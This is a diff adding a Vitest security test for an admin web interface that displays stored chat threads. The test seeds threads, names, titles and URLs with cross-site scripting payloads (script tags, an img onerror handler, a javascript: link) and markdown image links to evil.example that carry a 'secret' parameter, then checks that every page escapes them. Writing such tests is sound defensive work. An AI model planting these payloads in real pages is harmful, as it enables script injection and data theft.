@@ -1,0 +1,82 @@
+// What people and models write may be anything: on each page it is text, and nothing of it is loaded or run.
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { createOverviewMaker } from "../../../src/adapters/postgres/admin/overview-maker.ts";
+import { sessionNamed, storeThread } from "../../support/stored-threads.ts";
+import { openAdminWorld, person, type AdminWorld, type Browser } from "./admin-world.ts";
+
+const SCRIPT = "<script>alert(1)</script>";
+const MARKUP = `"><img src=x onerror=alert(1)><style>*{display:none}</style>`;
+const HOSTILE = `${SCRIPT} ${MARKUP} \u202e\u2066rtl\u0000\ud800 ![p](https://evil.example/p?d=secret) [a](javascript:alert(1)) https://evil.example/?d=2 ${"x".repeat(150_000)}`;
+const SESSION = "slack:T1:C1:171.5";
+const PATH = `/admin/threads/${encodeURIComponent(SESSION)}`;
+
+let world: AdminWorld;
+let browser: Browser;
+let run = "";
+beforeAll(async () => {
+  world = await openAdminWorld();
+  const { sql, people } = world;
+  await sql.query({ text: `insert into blobs values ('p', $1), ('t', '[]')` }, [`be helpful ${SCRIPT}`]);
+  [run = ""] = await storeThread(sql, {
+    session: SESSION,
+    said: [HOSTILE, HOSTILE],
+    author: { id: "U1", name: `${SCRIPT}${MARKUP}\u202e` },
+    error: `${SCRIPT}${MARKUP}`,
+    reason: "error",
+    model: `${SCRIPT}${MARKUP}`,
+  });
+  await sql.query({
+    text: `update model_calls set params = '{"v":1,"model":{"name":"m","contextWindow":9,"caching":"automatic"},"outputTokens":9,"caching":false}'`,
+  });
+  await sql.query({ text: "update sessions set title = $1" }, [`${SCRIPT}${MARKUP}`]);
+  await createOverviewMaker(sql).make(sessionNamed(SESSION));
+  people.set("slack:T1:UBOSS", {
+    id: "UBOSS",
+    name: "x",
+    kind: "member",
+    roles: [],
+    isPlatformAdmin: true,
+  });
+  browser = await world.signedIn(person("T1", "UBOSS", `${SCRIPT}${MARKUP}`));
+});
+afterAll(() => world[Symbol.asyncDispose]());
+
+test.each([
+  ["the list", "/admin/"],
+  ["a search", `/admin/?q=${encodeURIComponent(`rtl ${SCRIPT}`)}`],
+  ["a search that finds nothing", `/admin/?q=${encodeURIComponent(`nothing${MARKUP}`)}`],
+  [
+    "filters",
+    `/admin/?channel=${encodeURIComponent(MARKUP)}&model=${encodeURIComponent(SCRIPT)}&cost=${MARKUP}`,
+  ],
+  ["a thread", PATH],
+  ["what people saw", `${PATH}?side=people`],
+  ["an entry", `${PATH}/entries/1/1`],
+  ["a request", () => `${PATH}/calls/c${run}`],
+  ["the audit log", "/admin/audit"],
+  ["who is signed in", "/admin/browsers"],
+])("S13: on the page of %s hostile text is text", async (_, path) => {
+  const page = await browser.get(typeof path === "string" ? path : path(), { "user-agent": MARKUP });
+  expect(page.status).toBe(200);
+  expect(page.text).toContain("&lt;script&gt;alert");
+  for (const raw of ["<script>alert", "<img src=x", "<style>", "\u0000", 'javascript:alert(1)"'])
+    expect(page.text).not.toContain(raw);
+  // No code on the page itself, and nothing from elsewhere.
+  expect(page.text.replaceAll(/"[^"]*"/g, `""`)).not.toMatch(/<[^>]+\s(?:style|on[a-z]+)=/);
+  const addresses = [...page.text.matchAll(/<[a-z]+\s[^<>]*?\b(?:href|src|action)="([^"]*)"/g)].map(
+    ([, address]) => address,
+  );
+  expect(addresses.length).toBeGreaterThan(5);
+  expect(addresses.filter((address) => !/^(?:\/admin|#)/.test(address ?? ""))).toEqual([]);
+  // A line without end is cut where it is not asked for as a whole.
+  if (path === PATH) expect(page.text.length).toBeLessThan(60_000);
+});
+
+test("the bytes of a request are saved and never shown as a page", async () => {
+  const saved = await browser.get(`${PATH}/calls/c${run}?raw`);
+  expect(saved.headers.get("content-type")).toBe("application/octet-stream");
+  expect(saved.headers.get("content-disposition")).toMatch(
+    /^attachment; filename="request-c[a-z0-9]+\.json"$/,
+  );
+  expect(saved.headers.get("x-content-type-options")).toBe("nosniff");
+});
